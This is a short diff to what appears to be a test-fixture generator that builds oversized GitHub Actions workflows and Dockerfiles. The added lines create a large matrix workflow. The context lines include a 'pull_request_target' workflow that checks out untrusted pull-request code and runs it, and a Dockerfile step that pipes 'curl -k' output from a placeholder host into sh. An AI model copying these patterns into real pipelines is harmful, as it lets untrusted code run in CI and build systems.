@@ -31,6 +31,9 @@ export const PIPELINES: Readonly<Record<string, Family>> = {
     (n) =>
       `on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v${n}\n        with: { ref: "\${{ github.head_ref }}" }\n      - run: make\n`,
   ),
+  "Workflows: a matrix": (bytes) => ({
+    ".github/workflows/a.yml": `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    strategy:\n      matrix:\n        a:\n${fill(bytes / 2, (n) => `          - v${n}\n`)}        exclude:\n${fill(bytes / 2, (n) => `          - { a: v${n} }\n`)}    steps: [{ run: make }]\n`,
+  }),
   "Dockerfile: instructions": filled(
     "Dockerfile",
     (n) => `RUN apt-get install x${n} && curl -k https://x.test/${n} | sh\nENV A${n}=$A${n - 1}x\n`,
